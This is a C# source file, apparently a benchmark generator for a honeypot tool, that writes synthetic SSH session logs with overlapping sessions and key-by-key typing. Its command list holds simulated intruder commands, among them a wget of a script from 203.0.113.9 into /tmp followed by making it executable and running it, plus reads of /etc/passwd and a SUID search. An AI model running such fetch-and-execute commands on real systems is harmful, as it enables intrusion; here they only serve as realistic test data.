using System.Globalization;
using System.Text;

namespace Decnet.Bench.Shards;

/// <summary>A shard like those of real nights: sessions that overlap, keys typed one by one with their echo, output with colours, some exec sessions.</summary>
internal static class SampleShard
{
    private static readonly string[] Commands =
    [
        "uname -a", "cat /etc/passwd | grep sh", "ls -la /var/www/html", "cd /tmp", "wget http://203.0.113.9/x.sh -O /tmp/.x", "chmod +x .x; ./.x",
        "ps aux | head -20", "history", "crontab -l", "find / -perm -4000 2>/dev/null", "echo \"done\"", "exit",
    ];

    private static readonly string[] Outputs =
    [
        "total 12\\r\\n", "\\u001b[01;34mhtml\\u001b[0m  index.php\\r\\n", "root:x:0:0:root:/root:/bin/bash\\r\\n",
        "drwxr-xr-x 2 www-data www-data 4096 Mar  3 09:12 uploads\\r\\n", "admin@web-01:~$ ", "ok\\r\\n",
        "Linux web-01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 x86_64 GNU/Linux\\r\\n",
    ];

    /// <param name="open">Sessions that are going on at once.</param>
    /// <returns>Bytes written.</returns>
    public static long Write(string path, long bytes, int sessions, int open)
    {
        using var file = new StreamWriter(path, append: false, new UTF8Encoding(false), 1 << 20) { NewLine = "\n" };
        var random = new Random(20_260_501);
        var linesEach = (int)Math.Max(30, bytes / 92 / sessions);
        var live = new List<Typist>();
        var started = 0;
        while (started < sessions || live.Count > 0)
        {
            while (live.Count < open && started < sessions)
                live.Add(new Typist(Begin(file, random, ++started)) { Left = linesEach });

            var at = random.Next(live.Count);
            var typist = live[at];
            // A terminal answers a key with several lines: lines of one session stand together, mostly.
            for (var n = random.Next(1, 12); n > 0 && typist.Left > 0; n--, typist.Left--)
                Line(file, random, typist);

            if (typist.Left > 0)
                continue;

            Write(file, $"{{\"sid\":\"{typist.Sid}\",\"end\":{{\"t\":{typist.Time:0.000000},\"exit\":0,\"reason\":\"exit\",\"events\":{linesEach},\"bytes\":1000,\"in\":100}}}}");
            live[at] = live[^1];
            live.RemoveAt(live.Count - 1);
        }

        file.Flush();
        return file.BaseStream.Length;
    }

    private static string Begin(StreamWriter file, Random random, int number)
    {
        var sid = string.Create(CultureInfo.InvariantCulture, $"{number:x8}-{random.Next(65536):x4}-4{random.Next(4096):x3}-8{random.Next(4096):x3}-{random.NextInt64(1L << 48):x12}");
        Write(file, $"{{\"sid\":\"{sid}\",\"hdr\":{{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":{1777593600 + number},\"env\":{{\"SHELL\":\"/bin/bash\",\"TERM\":\"xterm\"}},\"user\":\"admin\",\"src\":\"203.0.113.{number % 250}\",\"service\":\"ssh\",\"tty\":\"/dev/pts/1\",\"pid\":{number}}}}}");
        return sid;
    }

    private static void Line(StreamWriter file, Random random, Typist typist)
    {
        if (random.Next(3) == 0)
        {
            var key = typist.Next(random);
            typist.Time += 0.04 + (random.NextDouble() * random.NextDouble() * 0.6);
            Write(file, $"{{\"sid\":\"{typist.Sid}\",\"t\":{typist.Time:0.000000},\"ch\":\"i\",\"d\":\"{key}\"{(random.Next(50) == 0 ? ",\"ne\":true" : "")}}}");
            return;
        }

        typist.Time += 0.0003;
        Write(file, $"{{\"sid\":\"{typist.Sid}\",\"t\":{typist.Time:0.000000},\"ch\":\"o\",\"d\":\"{Outputs[random.Next(Outputs.Length)]}\"}}");
    }

    private static void Write(StreamWriter file, FormattableString line) => file.WriteLine(FormattableString.Invariant(line));

    /// <summary>Types one command after the other, key by key.</summary>
    private sealed class Typist(string sid)
    {
        private string _command = "";
        private int _at;

        public string Sid => sid;

        public double Time { get; set; } = 0.5;

        public int Left { get; set; }

        public string Next(Random random)
        {
            if (_at == _command.Length)
            {
                (_command, _at) = (Commands[random.Next(Commands.Length)], 0);
                return "\\r";
            }

            var key = _command[_at++];
            return key == '"' ? "\\\"" : key.ToString();
        }
    }
}
